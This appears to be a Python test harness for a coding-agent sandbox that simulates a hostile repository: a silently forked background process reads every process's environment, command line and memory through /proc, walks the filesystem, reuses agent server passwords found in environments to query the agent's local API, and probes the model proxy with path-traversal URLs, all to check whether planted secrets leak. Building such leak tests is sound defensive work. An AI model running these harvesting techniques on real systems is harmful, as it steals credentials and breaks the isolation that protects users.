"""What a hostile repository would run: looks for secrets wherever the agent's user may look.

`hunter.py NAME FOLDER ROOT NEEDLE…` goes into the background, waits for FOLDER/go and writes what
it found to FOLDER/NAME.json. Needles come in hexadecimal digits, so that nobody finds them there.
"""

import base64
import json
import os
import re
import sys
import time
import urllib.error
import urllib.request
from pathlib import Path

NAME, FOLDER, ROOT = sys.argv[1], Path(sys.argv[2]), Path(sys.argv[3])
NEEDLES = [bytes.fromhex(digits) for digits in sys.argv[4:]]
LARGEST = 1 << 26
found: dict[str, list[str]] = {str(number): [] for number in range(len(NEEDLES))}
looked = {"processes": 0, "denied": 0, "memories": 0, "files": 0, "answers": 0}


def look(where: str, content: bytes) -> None:
    """Take note of the needles in something."""
    for number, needle in enumerate(NEEDLES):
        if needle in content or base64.b64encode(needle)[:-4] in content:
            found[str(number)].append(where)


def read(path: Path) -> bytes:
    """Read a file, if that is allowed."""
    try:
        with path.open("rb") as file:
            return file.read(LARGEST)
    except OSError:
        looked["denied"] += 1
        return b""


def memory(process: Path) -> None:
    """Look into all memory of a process: no core dump of it has more."""
    try:
        maps = (process / "maps").read_text().splitlines()
        with (process / "mem").open("rb", 0) as file:
            for line in maps:
                begin, end = (int(number, 16) for number in line.split()[0].split("-"))
                if "r" not in line.split()[1] or "/bin/opencode" in line or end - begin > 1 << 31:
                    continue
                for place in range(begin, end, LARGEST):
                    try:
                        file.seek(place)
                        content = file.read(min(LARGEST + 64, end - place))
                    except (OSError, ValueError, OverflowError):
                        continue
                    look(f"{process.name} memory", content)
        looked["memories"] += 1
    except OSError:
        looked["denied"] += 1


def processes() -> list[dict[str, str]]:
    """Look at all processes but hunters; return the environments of the agent's servers."""
    agents = []
    for process in Path("/proc").glob("[0-9]*"):
        command = read(process / "cmdline")
        if b"hunter.py" in command or not (process / "cmdline").exists():
            continue
        looked["processes"] += 1
        environ = read(process / "environ")
        look(f"{process.name} command line", command)
        look(f"{process.name} environment", environ)
        memory(process)
        if b"\0serve\0" in command and environ:
            pairs = [line.partition("=") for line in environ.decode().split("\0")]
            agents.append({"command": command.decode(), **{name: v for name, _, v in pairs}})
    return agents


def ask(where: str, url: str, method: str = "GET", body: bytes = b"", **headers: str) -> int:
    """Ask a server something and look at all that it answers."""
    names = {name.replace("_", "-"): value for name, value in headers.items()}
    request = urllib.request.Request(url, body or None, names, method=method)  # noqa: S310
    try:
        with urllib.request.urlopen(request, timeout=20) as answer:  # noqa: S310
            status, said = answer.status, str(answer.headers).encode() + answer.read()
    except urllib.error.HTTPError as error:
        status, said = error.code, str(error.headers).encode() + error.read()
    except OSError as error:
        status, said = 0, str(error).encode()
    looked["answers"] += 1
    look(where, said)
    return status


def agent(environment: dict[str, str]) -> dict[str, object]:
    """Ask an agent's server for its settings, and the door for everything, as the agent would."""
    port = re.search(r"--port\0(\d+)", environment["command"])
    prefix = "KILO" if "KILO_SERVER_PASSWORD" in environment else "OPENCODE"
    user = prefix.lower() + ":" + environment[f"{prefix}_SERVER_PASSWORD"]
    basic = "Basic " + base64.b64encode(user.encode()).decode()
    server = f"http://127.0.0.1:{port[1] if port else 0}"
    config = ask("the agent's settings", f"{server}/config", Authorization=basic)
    for path in ("/config/providers", "/provider", "/session", "/mcp", "/global/config"):
        ask(f"the agent's {path}", server + path, Authorization=basic)
    settings = json.loads(environment[f"{prefix}_CONFIG_CONTENT"])
    base = settings["provider"]["stub"]["options"]["baseURL"]
    placeholder = environment["STUB_MODEL_KEY"]
    door = base.rpartition("/model/")[0]
    for method in ("TRACE", "OPTIONS", "GET", "PUT"):
        for url in (base, f"{base}/../", f"{base}/%2e%2e/", door, f"{door}/model/other/x", base):
            ask(f"the door, {method}", url, method, Authorization=f"Bearer {placeholder}")
    chat = json.dumps({"messages": [{"role": "user", "content": "hello"}]}).encode()
    model = ask("the model", f"{base}/chat/completions", "POST", chat, x_api_key=placeholder)
    without = ask("the model", f"{base}/chat/completions", "POST", chat)
    return {"placeholder": placeholder, "config": config, "model": model, "without": without}


def hunt() -> None:
    """Look everywhere."""
    end = time.monotonic() + 240
    while not (FOLDER / "go").exists():
        if time.monotonic() > end:
            return
        time.sleep(0.1)
    agents = processes()
    for folder, _, names in os.walk(ROOT):
        for name in names:
            path = Path(folder, name)
            if path.is_file() and path.name != "hunter.py" and not path.is_relative_to(FOLDER):
                looked["files"] += 1
                look(str(path), read(path))
    told = {"found": found, "looked": looked, "agents": [agent(one) for one in agents]}
    (FOLDER / f"{NAME}.part").write_text(json.dumps(told))
    (FOLDER / f"{NAME}.part").rename(FOLDER / f"{NAME}.json")


if os.fork() == 0:
    os.setsid()
    silence = os.open(os.devnull, os.O_RDWR)
    for number in (0, 1, 2):
        os.dup2(silence, number)
    try:
        hunt()
    except BaseException as error:
        (FOLDER / f"{NAME}.json").write_text(json.dumps({"error": repr(error)}))
        raise
